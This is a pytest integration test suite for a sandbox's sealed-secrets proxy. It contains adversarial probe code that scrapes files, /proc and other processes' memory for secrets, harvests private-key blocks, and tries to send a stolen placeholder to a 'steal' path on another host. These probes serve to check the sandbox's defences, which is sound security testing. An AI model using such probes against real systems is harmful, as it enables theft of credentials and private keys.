"""Sealed secrets in a real sandbox: placeholders in the skills, real values only upstream.

A sealed run of a two-skill Expert (`hostile` and `decoy`, the suite's snippet server, each
with its own secret and its own allowed host) starts through `open_run(seal_secrets=True)`.
Both allowed hosts are an HTTPS echo server (tests/unit/sealed_echo.py) run inside the proxy's
container on its loopback, reached through the test-only switches of the proxy's policy
(`engine.TestNetwork`: the loopback CIDR, the two names mapped to it, the echo server's test
CA trusted upstream). The echo server answers with the SHA-256 of every header value it got,
so a test proves what arrived without the value passing back through the proxy.

Parametrised by isolation like the rest of the suite (runc, then gVisor).
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import secrets
import shutil
import sys
from typing import TYPE_CHECKING, Any

import anyio
import docker
import pytest
from conftest import require_engine
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from support import EXPERT, EXPERT_FILES, HERE, LABEL_ROLE, LABEL_RUN, Canaries, Hostile, quiet

from perstack_sandbox import engine, open_run, state
from perstack_sandbox.config import load_config
from perstack_sandbox.engine._exec import start_exec
from perstack_sandbox.isolation import ISOLATIONS

sys.path.insert(0, str(HERE.parent / "unit"))
from sealed_certs import make_certificates

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from perstack_sandbox.engine import ExecProcess

pytestmark = [pytest.mark.anyio, pytest.mark.docker]

ECHO, OTHER = "echo.example.com", "other.example.org"
PEM, SubjectPublicKeyInfo = Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
ECHO_SOURCE = HERE.parent / "unit" / "sealed_echo.py"
PROXY_UID = 10000
READY_DEADLINE_S = 30
AUDIT_DEADLINE_S = 10  # the engine copies the proxy's audit lines as they come
SCAN_SKIP = ("/proc", "/sys", "/dev")
SCAN_MAX_BYTES = 64 * 1024**2  # larger files come from the image, built before any value


def sealed_toml() -> str:
    """Return the Expert: each skill has one secret and one allowed host of its own."""
    return f"""\
[experts."{EXPERT}"]
instruction = "sealed secrets: two skills, each with a secret and a host of its own"

[experts."{EXPERT}".skills."hostile"]
type = "mcpStdioSkill"
command = "python3"
args = ["/expert/hostile_server.py"]
requiredEnv = ["HOSTILE_TOKEN"]
allowedDomains = ["{ECHO}"]

[experts."{EXPERT}".skills."decoy"]
type = "mcpStdioSkill"
command = "python3"
args = ["/expert/hostile_server.py"]
requiredEnv = ["DECOY_SECRET"]
allowedDomains = ["{OTHER}"]
"""


@dataclasses.dataclass
class SealedRun:
    """The started sealed run, its skills as snippet runners, and the real values."""

    hostile: Hostile
    values: dict[str, str]
    proxy: Any
    seen: dict[tuple[str, str], int] = dataclasses.field(default_factory=dict)

    async def placeholder(self, skill: str, name: str) -> str:
        """Return what `skill` holds for `name` (its placeholder)."""
        found: str = await self.hostile.probe(f"import os\nemit(os.environ[{name!r}])", skill=skill)
        return found

    async def sealed_line(self, skill: str, host: str) -> dict[str, Any]:
        """Wait (bounded) for a sealed-path line of `skill` and `host`, and return the last.

        The engine copies the proxy's audit into the run's folder as it comes: a line may
        land a moment after the answer that followed it.
        """
        with anyio.fail_after(AUDIT_DEADLINE_S):
            while True:
                lines = [
                    line
                    for line in self.hostile.audit_lines()
                    if line.get("event") == "sealed"
                    and (line["skill"], line["host"]) == (skill, host)
                ]
                if len(lines) > self.seen.get((skill, host), 0):
                    self.seen[(skill, host)] = len(lines)
                    return lines[-1]
                await anyio.sleep(0.05)


def _sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


async def _start_echo(proxy_id: str, chain: str, key: str) -> ExecProcess:
    """Run the echo server on the proxy container's loopback, port 443; wait for "ready"."""
    source = ECHO_SOURCE.read_text(encoding="utf-8")
    process = await start_exec(
        proxy_id, ["python3", "-c", source], env={}, user=PROXY_UID, workdir="/"
    )
    settings = {"cert": chain, "key": key, "host": "127.0.0.1", "port": 443}
    await process.stdin.send(json.dumps(settings).encode() + b"\n")
    seen = b""
    async with anyio.create_task_group() as group:
        group.start_soon(process.pump)  # only until "ready": nothing else is read
        with anyio.fail_after(READY_DEADLINE_S):
            while b"ready" not in seen:
                try:
                    seen += await process.stdout.receive()
                except anyio.EndOfStream:
                    errors = await process.stderr.receive()
                    pytest.fail(f"the echo server did not start: {errors.decode()}")
        group.cancel_scope.cancel()
    return process


@pytest.fixture(scope="module", params=ISOLATIONS)
async def sealed_run(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    security_state: None,
) -> AsyncIterator[SealedRun]:
    """Start the sealed Expert under one isolation, with the echo server in its proxy."""
    del security_state
    require_engine()
    folder = tmp_path_factory.mktemp("sealed-expert")
    folder.chmod(0o755)
    for name in EXPERT_FILES:
        shutil.copy2(HERE / "expert" / name, folder / name)
        (folder / name).chmod(0o644)
    (folder / "perstack.toml").write_text(sealed_toml(), encoding="utf-8")
    values = {
        "HOSTILE_TOKEN": f"sealed-hostile-{secrets.token_hex(16)}",
        "DECOY_SECRET": f"sealed-decoy-{secrets.token_hex(16)}",
    }
    certificates = make_certificates(ECHO, OTHER)
    config, _ = load_config(folder / "perstack.toml")
    run = open_run(
        config,
        EXPERT,
        secrets=values,
        isolation=request.param,
        prefix_tools=True,
        on_progress=quiet,
        seal_secrets=True,
    )
    run._options = dataclasses.replace(
        run._options,
        test_network=engine.TestNetwork(
            allow_cidrs=("127.0.0.1/32",),
            hosts={ECHO: "127.0.0.1", OTHER: "127.0.0.1"},
            upstream_ca=certificates.ca,
        ),
    )
    async with run:
        record = state.open_run(run.run_id)
        assert record is not None
        (proxy,) = docker.from_env().containers.list(
            filters={"label": [f"{LABEL_RUN}={run.run_id}", f"{LABEL_ROLE}=proxy"]}
        )
        echo = await _start_echo(proxy.id, certificates.chain, certificates.key)
        hostile = Hostile(run.gateway, record, values, Canaries({}), folder, folder, request.param)
        try:
            yield SealedRun(hostile, values, proxy)
        finally:
            await echo.close(kill=False)


async def test_a_sealed_skill_finds_only_placeholders_in_env_files_and_proc(
    sealed_run: SealedRun,
) -> None:
    """Its environment holds a placeholder; no file, /proc entry or own memory holds a value.

    Fails when: the skills get real values (checked by hand, runc: with `placeholder_for`
    returning the value itself, the test fails on its first check, the environment).
    """
    placeholder = await sealed_run.placeholder("hostile", "HOSTILE_TOKEN")
    assert placeholder != sealed_run.values["HOSTILE_TOKEN"]
    assert len(placeholder) == len(sealed_run.values["HOSTILE_TOKEN"])
    assert placeholder != await sealed_run.placeholder("decoy", "DECOY_SECRET")
    # Reversed: the values never appear in this snippet's argv or in the skill server's memory
    # (which reads the snippet); only this probe's own memory holds them, and is skipped.
    reversed_needles = [value[::-1] for value in sealed_run.values.values()]
    code = (
        f"import glob, os\nneedles = [n[::-1].encode() for n in {reversed_needles!r}]\n"
        "hits, scanned = [], {'files': 0, 'proc': 0, 'memory': 0}\n"
        "def look(where, data, kind):\n"
        "    scanned[kind] += 1\n"
        "    hits.extend(where for n in needles if n in data)\n"
        "look('environ', repr(os.environ).encode(), 'proc')\n"
        "for root, dirs, files in os.walk('/'):\n"
        f"    if root in {SCAN_SKIP!r}: dirs.clear(); continue\n"
        "    for name in files:\n"
        "        path = os.path.join(root, name)\n"
        "        try:\n"
        f"            if os.path.getsize(path) > {SCAN_MAX_BYTES}: continue\n"
        "            data = open(path, 'rb').read()\n"
        "        except OSError: continue\n"
        "        look(path, data, 'files')\n"
        "for path in glob.glob('/proc/*/*') + glob.glob('/proc/*/task/*/*'):\n"
        "    if path.endswith(('/mem', '/pagemap', '/kcore')) or os.path.isdir(path): continue\n"
        "    try: data = open(path, 'rb').read(1 << 20)\n"
        "    except OSError: continue\n"
        "    look(path, data, 'proc')\n"
        "for pid in os.listdir('/proc'):\n"
        "    if not pid.isdigit() or int(pid) == os.getpid(): continue\n"
        "    try:\n"
        "        maps = open(f'/proc/{pid}/maps').read().splitlines()\n"
        "        mem = open(f'/proc/{pid}/mem', 'rb')\n"
        "    except OSError: continue\n"
        "    for line in maps:\n"
        "        span, perms = line.split()[:2]\n"
        "        if 'r' not in perms: continue\n"
        "        start, end = (int(x, 16) for x in span.split('-'))\n"
        "        try: mem.seek(start); look(f'/proc/{pid}/mem', mem.read(end - start), 'memory')\n"
        "        except (OSError, ValueError, OverflowError): continue\n"
        "emit({'hits': sorted(set(hits)), 'scanned': scanned})"
    )
    result = await sealed_run.hostile.probe(code)
    assert result["scanned"]["files"] > 1000
    assert result["scanned"]["proc"] > 100
    # gVisor's /proc/<pid>/mem refuses reads even of the skill's own processes.
    assert result["scanned"]["memory"] > (10 if sealed_run.hostile.isolation == "runc" else -1)
    assert result["hits"] == []


async def test_the_allowed_host_receives_the_real_value(sealed_run: SealedRun) -> None:
    """The echo server gets the real value in the header and the URL, through Python urllib.

    Fails when: the proxy does not substitute (checked by hand, runc: `substitute` returning
    the head unchanged, the echo server then reports the placeholder's digest).
    """
    code = (
        "import json, os, urllib.request\n"
        "token = os.environ['HOSTILE_TOKEN']\n"
        f"req = urllib.request.Request('https://{ECHO}/v1?key=' + token,\n"
        "    headers={'Authorization': 'Bearer ' + token})\n"
        "emit(json.load(urllib.request.urlopen(req, timeout=20)))"
    )
    echoed = await sealed_run.hostile.probe(code)
    real = sealed_run.values["HOSTILE_TOKEN"]
    assert echoed["sha256"]["authorization"] == _sha256(f"Bearer {real}")
    assert echoed["targetSha256"] == _sha256(f"/v1?key={real}")
    line = await sealed_run.sealed_line("hostile", ECHO)
    assert (line["decision"], line["variables"]) == ("substitute", ["HOSTILE_TOKEN"])
    audit_text = sealed_run.hostile.run.audit_path.read_text(encoding="utf-8")
    assert real not in audit_text


async def test_a_placeholder_sent_by_another_skill_to_its_own_host_is_refused(
    sealed_run: SealedRun,
) -> None:
    """The decoy sending the hostile skill's placeholder to the decoy's host gets 403.

    Fails when: the proxy does not look for other skills' placeholders (checked by hand,
    runc: without the check the request reaches the echo server and is answered 200).
    """
    stolen = await sealed_run.placeholder("hostile", "HOSTILE_TOKEN")
    code = (
        "import urllib.error, urllib.request\n"
        f"req = urllib.request.Request('https://{OTHER}/',\n"
        f"    headers={{'Authorization': {stolen!r}}})\n"
        "try: emit(urllib.request.urlopen(req, timeout=20).status)\n"
        "except urllib.error.HTTPError as exc: emit(exc.code)"
    )
    assert await sealed_run.hostile.probe(code, skill="decoy") == 403
    line = await sealed_run.sealed_line("decoy", OTHER)
    assert (line["decision"], line["reason"], line["placeholderOf"]) == (
        "deny",
        "foreign-placeholder",
        "hostile",
    )


@pytest.mark.parametrize(
    ("target", "status", "reason"),
    [
        (f"https://{OTHER}/steal", 421, "sealed-target-mismatch"),
        (f"//{OTHER}/steal", 400, "sealed-bad-target"),
    ],
)
async def test_a_request_target_naming_another_host_is_refused_before_substitution(
    sealed_run: SealedRun, target: str, status: int, reason: str
) -> None:
    """In its own host's tunnel, with the right Host, a target naming another host is refused.

    The hostile skill speaks HTTP/1.1 by hand through its tunnel to its own host, with its
    placeholder in the target and a header. Fails when: only the Host header is checked
    (checked by hand, runc: without `in_origin_form` in `_checked_request`, both requests
    were answered 200 by the echo server).
    """
    code = (
        "import base64, http.client, os, ssl\n"
        "from urllib.parse import urlsplit\n"
        "proxy, token = urlsplit(os.environ['HTTPS_PROXY']), os.environ['HOSTILE_TOKEN']\n"
        "basic = base64.b64encode(f'{proxy.username}:{proxy.password}'.encode()).decode()\n"
        "conn = http.client.HTTPSConnection(proxy.hostname, proxy.port, timeout=20,\n"
        "    context=ssl.create_default_context())\n"
        f"conn.set_tunnel({ECHO!r}, 443, headers={{'Proxy-Authorization': 'Basic ' + basic}})\n"
        f"conn.putrequest('GET', {target!r} + '?key=' + token, skip_host=True)\n"
        f"conn.putheader('Host', {ECHO!r})\n"
        "conn.putheader('Authorization', token)\n"
        "conn.endheaders()\n"
        "emit(conn.getresponse().status)"
    )
    assert await sealed_run.hostile.probe(code) == status
    line = await sealed_run.sealed_line("hostile", ECHO)
    assert (line["decision"], line["reason"], line["variables"]) == ("deny", reason, [])


async def test_a_real_value_echoed_in_a_response_header_arrives_as_the_placeholder(
    sealed_run: SealedRun,
) -> None:
    """The echo server returns the (substituted) value in X-Echoed; the skill sees its placeholder.

    Fails when: response heads are not masked (checked by hand, runc: without `mask` on the
    response head the skill reads HOSTILE_TOKEN's real value in X-Echoed).
    """
    code = (
        "import os, urllib.request\n"
        "token = os.environ['HOSTILE_TOKEN']\n"
        f"req = urllib.request.Request('https://{ECHO}/', headers={{'X-Echo-Back': token}})\n"
        "emit([token, urllib.request.urlopen(req, timeout=20).headers['X-Echoed']])"
    )
    placeholder, echoed = await sealed_run.hostile.probe(code)
    assert echoed == placeholder
    assert sealed_run.values["HOSTILE_TOKEN"] not in echoed


async def test_the_run_cas_key_cannot_be_read_from_the_sandbox(sealed_run: SealedRun) -> None:
    """No PEM private key readable in the sandbox (files, /proc) belongs to the run's CA.

    The probe collects every PEM private-key block it can read; each is parsed here and
    compared with the public key of the run's CA (the last certificate of the skills' bundle).
    Fails when: the key leaves the proxy (checked by hand, runc: the seal reply carrying the
    key's PEM after the certificate puts it into the sandbox's bundle file).
    """
    code = (
        "import glob, os, re\nfound = {}\n"
        "block = re.compile(rb'-----BEGIN [A-Z ]*PRIV' rb'ATE KEY-----.+?-----END [A-Z ]*PRIV'"
        " rb'ATE KEY-----', re.S)\n"
        "def look(path, data):\n"
        "    for match in block.findall(data)[:20]:\n"
        "        found.setdefault(path, []).append(match.decode())\n"
        "for root, dirs, files in os.walk('/'):\n"
        f"    if root in {SCAN_SKIP!r}: dirs.clear(); continue\n"
        "    for name in files:\n"
        "        path = os.path.join(root, name)\n"
        "        try:\n"
        f"            if os.path.getsize(path) > {SCAN_MAX_BYTES}: continue\n"
        "            data = open(path, 'rb').read()\n"
        "        except OSError: continue\n"
        "        look(path, data)\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try: look(path, open(path, 'rb').read())\n"
        "    except OSError: continue\n"
        "emit({'found': found, 'bundle': open(os.environ['SSL_CERT_FILE']).read(),\n"
        "      'path': os.environ['SSL_CERT_FILE']})"
    )
    result = await sealed_run.hostile.probe(code)
    assert result["path"] == "/tmp/perstack-ca/bundle.pem"  # noqa: S108 - inside the sandbox
    last = (
        "-----BEGIN CERTIFICATE-----" + result["bundle"].rsplit("-----BEGIN CERTIFICATE-----")[-1]
    )
    run_ca = x509.load_pem_x509_certificate(last.encode())
    assert "perstack-sandbox sealed run" in run_ca.subject.rfc4514_string()
    run_public = run_ca.public_key().public_bytes(PEM, SubjectPublicKeyInfo)
    matching = []
    for path, blocks in result["found"].items():
        for block in blocks:
            try:
                key = serialization.load_pem_private_key(block.encode(), password=None)
            except (ValueError, TypeError):
                continue  # an example in a manual page, not a key
            if key.public_key().public_bytes(PEM, SubjectPublicKeyInfo) == run_public:
                matching.append(path)
    assert matching == []


async def test_node_fetch_works_through_the_terminating_path(sealed_run: SealedRun) -> None:
    """Node's fetch (NODE_USE_ENV_PROXY, NODE_EXTRA_CA_CERTS) reaches the echo server sealed.

    Fails when: Node does not trust the run's CA (checked by hand, runc: with the bundle
    variables on the system bundle, fetch fails "self-signed certificate in certificate
    chain"), or the proxy does not substitute (checked by hand: the digest differs).
    """
    script = (
        f"fetch('https://{ECHO}/node', {{headers: {{authorization: process.env.HOSTILE_TOKEN}}}})"
        ".then(r => r.json()).then(j => console.log(JSON.stringify(j)))"
        ".catch(e => { console.log(JSON.stringify({error: String(e.cause || e)})); })"
    )
    code = (
        "import json, subprocess\n"
        f"out = subprocess.run(['node', '-e', {script!r}], capture_output=True, text=True,"
        " timeout=60)\n"
        "emit(json.loads(out.stdout.strip().splitlines()[-1]) if out.stdout.strip() else"
        " {'error': out.stderr[-500:]})"
    )
    echoed = await sealed_run.hostile.probe(code)
    assert "error" not in echoed, echoed
    assert echoed["sha256"]["authorization"] == _sha256(sealed_run.values["HOSTILE_TOKEN"])


async def test_no_container_or_exec_of_the_run_holds_a_real_value(sealed_run: SealedRun) -> None:
    """Docker inspect of every container (the proxy's too) and of every live exec shows no value.

    The values reach the proxy on the control client's stdin, which the engine does not keep.
    Fails when: the values go into the proxy's policy, hence its container's environment
    (checked by hand, runc: the seal message added to the policy fails this test).
    """
    api = docker.from_env().api
    texts = {}
    for container in sealed_run.hostile.containers():
        attrs = api.inspect_container(container.id)
        texts[f"container {container.name}"] = json.dumps(attrs)
        for exec_id in attrs.get("ExecIDs") or []:
            texts[f"exec {exec_id[:12]}"] = json.dumps(api.exec_inspect(exec_id))
    assert any(name.startswith("exec ") for name in texts)
    values = list(sealed_run.values.values())
    assert {name: [v for v in values if v in text] for name, text in texts.items()} == {
        name: [] for name in texts
    }


async def test_uv_trusts_the_run_ca(sealed_run: SealedRun) -> None:
    """Uv (SSL_CERT_FILE) completes TLS with the sealed path: its index request is answered.

    The echo server is no package index, so uv fails after the exchange, on the answer's
    content type; a refused certificate fails it before. Fails when: the bundle variables
    name the system bundle (checked by hand, runc: "invalid peer certificate: UnknownIssuer").
    """
    code = (
        "import subprocess\n"
        "out = subprocess.run(['uv', 'pip', 'compile', '-', '--no-cache', '--index-url',\n"
        f"    'https://{ECHO}/simple/'], input='six\\n', capture_output=True, text=True,"
        " timeout=60)\n"
        "emit(out.stdout + out.stderr)"
    )
    output = await sealed_run.hostile.probe(code)
    assert "certificate" not in output.lower(), output
    assert "Unsupported `Content-Type`" in output, output  # the echo server's JSON reached uv
